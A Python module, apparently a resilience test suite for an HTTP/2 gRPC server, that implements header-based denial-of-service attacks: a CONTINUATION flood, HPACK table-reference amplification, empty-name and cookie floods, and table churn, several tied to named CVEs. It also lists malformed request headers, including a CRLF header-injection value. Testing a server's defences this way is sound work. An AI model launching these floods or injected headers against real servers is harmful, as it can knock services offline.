"""Header blocks that are too long, unpack to too much, or are wrong."""

import struct

from wire import (
    CONTINUATION, DATA, EMPTY_MESSAGE, END_HEADERS, END_STREAM, HEADERS, Attacker, flood, frame, literal,
    request_block,
)  # fmt: skip

MAX_HEADER_LIST_SIZE = 6


def _blocks(address, block, turns, first=b"", batch=1):
    """Whole requests with `block(turn)` among their headers; `first` is in the first one only."""

    def piece(turn):
        extra = (first if turn == 0 else b"") + block(turn)
        return split(2 * turn + 1, request_block(extra=extra))

    return flood(address, piece, turns, batch=batch, open_max=100)


def split(stream, block):
    """A header block in as many frames as it needs."""
    pieces = [block[at : at + 16384] for at in range(0, len(block), 16384)]
    frames = [frame(CONTINUATION, 0, stream, piece) for piece in pieces]
    frames[0] = frame(HEADERS, END_STREAM, stream, pieces[0])
    last = bytearray(frames[-1])
    last[4] |= END_HEADERS
    return b"".join([*frames[:-1], bytes(last)])


def continuation_flood(address, turns=5_000):
    """CVE-2024-28182: a header block that never ends."""
    begin = frame(HEADERS, 0, 1, request_block())
    piece = frame(CONTINUATION, 0, 1, literal("a", "b" * 100))
    return flood(address, lambda n: piece, turns, begin=begin, batch=1)


def table_references(address, turns=50):
    """CVE-2016-6581: one large field in the table, and thousands of bytes that each stand for it."""
    large = literal("x-large", "x" * 4000, kind=0x40)
    return _blocks(address, lambda n: b"\xbe" * 8000, turns, first=large)


def many_fields(address, turns=50):
    """Thousands of short fields."""
    return _blocks(address, lambda n: literal("a", "") * 9000, turns)


def cookie_crumbs(address, turns=50):
    """The same, as cookies (CVE-2026-49975)."""
    return _blocks(address, lambda n: literal("cookie", "a=b") * 3000, turns)


def large_blocks(address, turns=5_000):
    """Blocks that are a little too large, again and again."""
    return _blocks(address, lambda n: literal("x-large", "x" * 17_000), turns)


def names_of_nothing(address, turns=5_000):
    """CVE-2019-9516: fields without a name."""
    return _blocks(address, lambda n: literal("", "") * 10, turns, batch=20)


def table_size_churn(address, turns=2_000):
    """The table is emptied and filled again in every block."""
    block = b"\x20\x3f\xe1\x1f" + request_block(extra=literal("x", "y" * 3000, kind=0x40))
    return flood(address, lambda n: split(2 * n + 1, block), turns, batch=20, open_max=100, seconds=1)


# Blocks that must end their own stream, or be answered with a status, and nothing more.
MALFORMED = {
    "no path": b"\x83\x86" + literal(":authority", "a") + literal("content-type", "application/grpc"),
    "no method": b"\x86\x84" + literal(":authority", "a"),
    "two paths": b"\x83\x86\x84\x84",
    "unknown pseudo header": b"\x83\x86\x84" + literal(":nothing", "x"),
    "pseudo header after a field": b"\x83\x86" + literal("a", "b") + b"\x84",
    "a response's pseudo header": b"\x83\x86\x84\x88",
    "upper case": request_block(extra=literal("X-Upper", "x")),
    "no name": request_block(extra=literal("", "x")),
    "newline in a value": request_block(extra=literal("a", "b\r\nc: d")),
    "NUL in a value": request_block(extra=literal("a", b"\0")),
    "connection header": request_block(extra=literal("connection", "close")),
    "te that is not trailers": request_block(te="gzip"),
    "bad base64": request_block(extra=literal("x-bad-bin", "!!!!")),
    "path without a slash": request_block(path="trunkline.testing.v1.EchoService/Echo"),
    "path of bytes": b"\x83\x86" + literal(":path", b"/\xff\xfe\x80") + literal("content-type", "application/grpc"),
    "content-length that is no number": request_block(extra=literal("content-length", "-1")),
    "two content-lengths": request_block(extra=literal("content-length", "5") * 2),
    "timeout of letters": request_block(extra=literal("grpc-timeout", "99999999999999999999H")),
    "encoding of bytes": request_block(extra=literal("grpc-encoding", b"\xff" * 300)),
    "grpc headers of an answer": request_block(extra=literal("grpc-status", "0") + literal("grpc-message", "%")),
}


def malformed(address):
    """Each malformed request once, all on one connection that goes on."""
    with Attacker(address) as attacker:
        for turn, block in enumerate(MALFORMED.values()):
            attacker.send(frame(HEADERS, END_HEADERS | END_STREAM, 2 * turn + 1, block), 1)
            attacker.read_until(lambda turn=turn: 2 * turn + 1 in attacker.ended, 5)
        return attacker.outcome()


def few_headers_taken(address, limit=0, streams=100):
    """A client that wants next to no headers (CVE-2026-50560), and asks for errors with long texts."""
    settings = struct.pack(">HI", MAX_HEADER_LIST_SIZE, limit)
    with Attacker(address, settings=settings) as attacker:
        for turn in range(streams):
            extra = literal("x-echo-bin", "A" * 4000)
            block = request_block("NoSuchMethod" + "x" * 4000 if turn % 2 else "Echo", extra)
            attacker.send(frame(HEADERS, END_HEADERS, 2 * turn + 1, block))
            attacker.send(frame(DATA, END_STREAM, 2 * turn + 1, EMPTY_MESSAGE), 1)
        attacker.read_until(lambda: len(attacker.ended) == streams, 5)
        return attacker.outcome()


ALL = [
    few_headers_taken, continuation_flood, table_references, many_fields, cookie_crumbs, large_blocks, names_of_nothing,
    table_size_churn, malformed,
]  # fmt: skip
